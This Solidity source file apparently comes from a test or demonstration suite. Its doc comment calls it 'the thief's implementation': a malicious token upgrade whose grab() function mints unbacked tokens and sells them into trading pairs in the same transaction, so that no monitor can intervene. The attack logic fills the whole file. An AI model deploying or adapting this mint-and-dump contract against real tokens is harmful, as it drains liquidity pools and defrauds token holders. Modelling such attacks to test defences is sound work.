// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {CertTokenUnguarded} from "./CertTokenUnguarded.sol";
import {Pair} from "./Pair.sol";

/// @title The thief's implementation whose first call, inside the upgrade's own transaction, mints and sells.
/// No watch can stand between the two.
contract CertTokenOneTx is CertTokenUnguarded {
    function grab(Pair[] calldata pairs, uint256[] calldata amounts, address to) external {
        for (uint256 i = 0; i < pairs.length; i++) {
            _mint(address(this), amounts[i]);
            _approve(address(this), address(pairs[i]), amounts[i]);
            pairs[i].swap(address(this), amounts[i], 0, to);
        }
    }
}
